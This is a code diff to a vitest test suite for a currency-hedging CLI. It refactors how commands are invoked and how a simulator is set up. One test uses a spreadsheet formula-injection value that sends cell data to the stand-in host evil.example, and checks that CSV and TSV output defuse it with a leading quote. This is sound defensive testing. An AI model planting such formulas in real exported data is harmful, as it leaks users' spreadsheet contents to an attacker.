@@ -5,10 +5,10 @@
 // --query are exit 2; a bad --query is refused before any request.
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { exits } from '../support/cli-runs.js';
+import { exits, ok as succeeded } from '../support/cli-runs.js';
 import { runHedge, tempDir, type HedgeArgs } from '../support/hedge-cli.js';
 import { FROZEN_KEY } from '../support/keys.js';
-import { apiData, pinnedClockEnv, startSimulator, type Simulator } from '../support/simulator.js';
+import { apiData, pinnedClockEnv, startSimulator, withSimulator, type Simulator } from '../support/simulator.js';
 
 let simulator: Simulator;
 let config: { path: string; remove: () => void };
@@ -142,7 +142,7 @@ afterAll(async () => {
 describe.each(Object.keys(COLUMNS))('%s', (command) => {
   it('json is the data as the API answered; tsv, csv and ndjson carry the same records in the documented columns', async () => {
     const [json, tsv, csv, ndjson, bare] = await Promise.all([
-      ok([command, '--json']),
+      ok(`${command} --json`),
       ok([command]),
       ok(`${command} --format csv`),
       ok(`${command} --format ndjson`),
@@ -194,11 +194,11 @@ describe.each(Object.keys(COLUMNS))('%s', (command) => {
   it('--fields picks and orders columns in tsv, csv and json; --query reshapes the JSON', async () => {
     const [second, first] = [COLUMNS[command][2], COLUMNS[command][0]];
     const [json, tsv, csv, fieldsJson, query, queryNd] = await Promise.all([
-      ok([command, '--json']),
-      ok([command, '--fields', `${second},${first}`]),
-      ok([command, '--fields', `${second},${first}`, '--format', 'csv', '--no-header']),
-      ok([command, '--fields', `${second},${first}`, '--json']),
-      ok([command, '--query', `[].${first}`]),
+      ok(`${command} --json`),
+      ok(`${command} --fields ${second},${first}`),
+      ok(`${command} --fields ${second},${first} --format csv --no-header`),
+      ok(`${command} --fields ${second},${first} --json`),
+      ok(`${command} --query [].${first}`),
       ok([command, '--query', `[].{a: ${first}}`, '--format', 'ndjson']),
     ]);
     const records = JSON.parse(json);
@@ -282,21 +282,17 @@ describe('refusals', () => {
 describe('cells a spreadsheet would run as formulas (a deal reference is the user’s text)', () => {
   it('TSV defuses them exactly as CSV does: a leading quote, numbers left alone', async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
-    const own = await startSimulator();
-    try {
-      const opened = await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`);
-      exits(opened, 0);
+    await withSimulator({}, async (own) => {
+      succeeded(await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`));
       expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
-      const tsv = await own.hedge('hedges --format tsv --fields client_reference,notional_usd');
-      const csv = await own.hedge('hedges --format csv --fields client_reference,notional_usd');
-      exits(tsv, 0);
+      const fields = '--fields client_reference,notional_usd';
+      const tsv = succeeded(await own.hedge(`hedges --format tsv ${fields}`));
+      const csv = succeeded(await own.hedge(`hedges --format csv ${fields}`));
       expect(tsv.stdout.trimEnd().split('\n')).toEqual(['client_reference\tnotional_usd', `'${formula}\t1000`]);
       expect(parse(csv.stdout)).toEqual([
         ['client_reference', 'notional_usd'],
         [`'${formula}`, '1000'],
       ]);
-    } finally {
-      await own.close();
-    }
+    });
   });
 });
